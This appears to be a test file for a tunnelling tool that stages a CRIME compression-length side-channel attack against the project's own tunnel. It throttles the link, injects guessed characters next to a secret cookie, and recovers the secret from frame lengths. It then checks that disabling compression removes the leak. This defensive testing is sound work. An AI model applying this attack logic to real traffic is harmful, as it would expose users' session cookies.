/**
 * The compression length oracle (CRIME) played against a real tunnel: a visitor's requests carry an
 * attacker-chosen string (a search term) next to a secret (a cookie), and an observer on the path
 * between server and client reads only the length prefix of each frame. The observer also slows the
 * link down while the visitor uploads, as someone on the path can: the link backs up, and the
 * server's adaptive compression turns on (docs/PROTOCOL.md, "Sender's compression policy"). Each
 * guess follows a piece of upload that the server has read in full, so the guess travels in a frame
 * of its own while the link is still backed up.
 *
 * With compression on, the guess that repeats more of the secret compresses one byte better: the
 * shortest frame names the next character, and the attack reads the secret's first characters. With
 * `compress: false` every probe's frame has the same length: there is nothing to read.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import type { Socket } from 'node:net';
import { type TestContext, test } from 'node:test';
import { until } from '../unit/helpers.js';
import { dial, freePort, listen, startPair, tunnelsActive } from './harness.js';

const SECRET = '7f3a9c21e4b0';
const HEX = '0123456789abcdef';
/** Characters the attack tries to read. */
const READ = 3;
/** Rounds played again, in all, when a round did not give one clean frame per probe. */
const MAX_REPEATS = 4;
/**
 * Upload that compresses to about 0.6 however it is cut into frames (random 16-byte blocks, each
 * twice): it keeps the link busy, and no piece of it (64 bytes or more) looks incompressible, which
 * would make the sender skip LZ4 for a while.
 */
function upload(len: number): Buffer {
  const out = randomBytes(len);
  for (let i = 16; i + 16 <= len; i += 32) out.copy(out, i, i - 16, i);
  return out;
}

/** A browser's request: the search term is the attacker's, the cookie is the secret. */
function request(guess: string): Buffer {
  return Buffer.from(
    [
      `GET /search?q=secret=${guess}~~ HTTP/1.1`,
      'Host: shop.example',
      'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0',
      'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'Accept-Language: en-US,en;q=0.5',
      'Accept-Encoding: gzip, deflate',
      'Referer: http://shop.example/search',
      `Cookie: secret=${SECRET}`,
      'Connection: keep-alive',
      '',
      '',
    ].join('\r\n'),
  );
}

/** Runs the attack on a tunnel with `compress` on or off; returns each round's 16 frame lengths. */
async function attack(t: TestContext, compress: boolean): Promise<{ read: string; rounds: number[][] }> {
  let received = 0;
  const service = await listen(t, (s) => s.on('data', (c: Buffer) => (received += c.length)));
  const remotePort = await freePort();
  const pair = await startPair(t);
  const { proxy, client } = await pair.viaProxy({
    dataChannelPool: 1,
    tunnels: [{ name: 'shop', remotePort, localHost: '127.0.0.1', localPort: service.port, compress }],
  });
  // The observer: the length of every frame from the server, per link, from the link's first byte.
  const frames: Array<{ link: Socket; len: number }> = [];
  const parsers = new Map<Socket, { buf: Buffer; skip: number }>();
  proxy.tapServer((link, chunk) => {
    let p = parsers.get(link);
    if (!p) {
      p = { buf: Buffer.alloc(0), skip: 0 };
      parsers.set(link, p);
    }
    let b = Buffer.concat([p.buf, chunk]);
    for (;;) {
      if (p.skip > 0) {
        const n = Math.min(p.skip, b.length);
        p.skip -= n;
        b = b.subarray(n);
        if (p.skip > 0) break;
      }
      if (b.length < 4) break;
      const len = b.readUInt32BE(0);
      frames.push({ link, len });
      p.skip = len;
      b = b.subarray(4);
    }
    p.buf = b;
  });
  await tunnelsActive(client);
  const counters = pair.server.metrics.tunnel(remotePort, 'shop');
  const visitor = await dial(remotePort);
  let sent = 0;
  /** Sends bytes and waits until the server has read them all (they may still wait for the link). */
  const push = async (bytes: Buffer) => {
    sent += bytes.length;
    visitor.write(bytes);
    await until(() => counters.bytesIn === sent, 10_000, 'the server read the bytes');
  };
  // Served first, so the link is slowed only on an established connection.
  await push(Buffer.from('HEAD / HTTP/1.1\r\nHost: shop.example\r\n\r\n'));
  await until(() => received === sent, 10_000, 'the service got the first request');
  let known = '';
  const rounds: number[][] = [];
  let repeats = 0;
  for (let round = 0; round < READ; round++) {
    // Slow the link (about 13 MB/s) and fill its buffers: the socket backs up.
    proxy.throttle(128 * 1024);
    await push(upload(6 * 1024 * 1024));
    const before = frames.length;
    for (const g of HEX) {
      await push(upload(256 * 1024)); // keeps it backed up
      await push(request(known + g));
    }
    proxy.throttle(undefined);
    await until(() => received === sent, 20_000, 'the service got every byte');
    // The visitor's data channel is the link that carried the upload; on it, the upload's frames are
    // tens of KiB and the probes are the small ones, in order.
    const mine = frames.slice(before);
    const bytes = new Map<Socket, number>();
    for (const f of mine) bytes.set(f.link, (bytes.get(f.link) ?? 0) + f.len);
    const channel = [...bytes].sort((a, b) => b[1] - a[1])[0]![0];
    // The observer knows how long a stored probe is (codec byte, message header, request, tag), and
    // a compressed one is a little shorter. On a busy machine a round can go wrong for the attacker:
    // the link drains between two probes and the sender stores what follows, or a read of the upload
    // happens to be probe-sized. The attacker sees that (not one clean frame per probe) and plays the
    // round again, as a real one would.
    const stored = 1 + 6 + request(`${known}0`).length + 16;
    const lengths = mine
      .filter((f) => f.link === channel && f.len > stored - 128 && f.len <= stored)
      .map((f) => f.len);
    const clean = lengths.length === HEX.length && (!compress || lengths.every((l) => l < stored));
    if (!clean) {
      assert.ok(repeats < MAX_REPEATS, `round ${round} after ${repeats} repeats: ${lengths.join(', ')}`);
      repeats++;
      round--;
      continue;
    }
    rounds.push(lengths);
    const shortest = Math.min(...lengths);
    const best = [...HEX].filter((_, i) => lengths[i] === shortest);
    known += best.length === 1 ? best[0] : '?';
  }
  visitor.destroy();
  return { read: known, rounds };
}

test('CRIME against a tunnel: with compression on, frame lengths give the secret away', async (t) => {
  const { read, rounds } = await attack(t, true);
  assert.equal(read, SECRET.slice(0, READ), `read "${read}" from lengths ${JSON.stringify(rounds)}`);
});

test('CRIME against a tunnel: with compress: false every probe has the same frame length', async (t) => {
  const { read, rounds } = await attack(t, false);
  for (const lengths of rounds) {
    assert.equal(new Set(lengths).size, 1, `one round's frame lengths: ${lengths.join(', ')}`);
  }
  assert.equal(read, '?'.repeat(READ), 'no guess stands out');
});
